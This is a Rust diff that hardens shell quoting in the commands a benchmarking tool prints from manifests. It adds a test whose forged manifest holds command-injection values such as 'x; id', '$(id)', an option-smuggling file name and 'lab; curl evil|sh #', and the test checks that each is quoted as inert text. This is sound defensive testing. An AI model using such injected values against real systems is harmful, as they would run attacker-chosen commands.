@@ -89,6 +89,9 @@ impl Section {
             let _ = write!(out, "<p><b>Expected:</b> {}</p>", escaped(expect));
         }
         out.extend(self.network.iter().map(Figure::html));
+        if let (None, Some(why)) = (&self.network, network::not_drawn(m)) {
+            let _ = write!(out, "<p class=\"small\">{}</p>", escaped(&why));
+        }
         if !m.claims.is_empty() {
             out.push_str("<h3>Claims</h3>");
             m.claims.iter().for_each(|claim| out.push_str(&claims::html(m, claim, &id, known)));
@@ -394,18 +397,23 @@ fn commands(m: &Manifest, full: Option<bool>) -> String {
         "hosts" => " --on hosts=FILE".into(),
         other => {
             let version = m.version.iter().map(|version| format!("={version}"));
-            format!(" --on {other}{}", version.collect::<String>())
+            format!(" --on {}", quoted(&format!("{other}{}", version.collect::<String>())))
         }
     };
     let mut out = String::new();
     if let Some(full) = full {
         let full = if full { " --full" } else { "" };
-        let _ = writeln!(out, "knee reproduce {}{full}{on}", m.name);
+        let _ = writeln!(out, "knee reproduce {}{full}{on}", quoted(&m.name));
     }
     // Only what stands behind `scenarios` is the same in every clone.
     let file = m.file.rfind("scenarios/").map_or(m.file.as_str(), |at| &m.file[at..]);
-    let _ =
-        write!(out, "knee run {}{on}", if file.is_empty() { "FILE".into() } else { quoted(file) });
+    let file = match file {
+        "" => "FILE".into(),
+        // It is no option.
+        file if file.starts_with('-') => quoted(&format!("./{file}")),
+        file => quoted(file),
+    };
+    let _ = write!(out, "knee run {file}{on}");
     if m.quick {
         out.push_str(" --quick");
     }
@@ -430,7 +438,7 @@ fn commands(m: &Manifest, full: Option<bool>) -> String {
 /// A word as a shell takes it.
 fn quoted(word: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "._-/,=:".contains(c);
-    match word.chars().all(plain) {
+    match !word.is_empty() && word.chars().all(plain) {
         true => word.to_owned(),
         false => format!("'{}'", word.replace('\'', "'\\''")),
     }
@@ -657,5 +665,22 @@ mod tests {
             ..Manifest::default()
         };
         assert_eq!(commands(&virtual_time, None), "knee run incast.toml --on vkernel=6.1");
+    }
+
+    #[test]
+    fn what_a_manifest_says_is_a_word_of_the_shell_and_no_command() {
+        let forged = Manifest {
+            name: "x; id".into(),
+            file: "-o /etc/passwd".into(),
+            back_end: "lab; curl evil|sh #".into(),
+            version: Some("$(id)".into()),
+            scale: 1.0,
+            ..Manifest::default()
+        };
+        assert_eq!(
+            commands(&forged, Some(false)),
+            "knee reproduce 'x; id' --on 'lab; curl evil|sh #=$(id)'\n\
+             knee run './-o /etc/passwd' --on 'lab; curl evil|sh #=$(id)'"
+        );
     }
 }
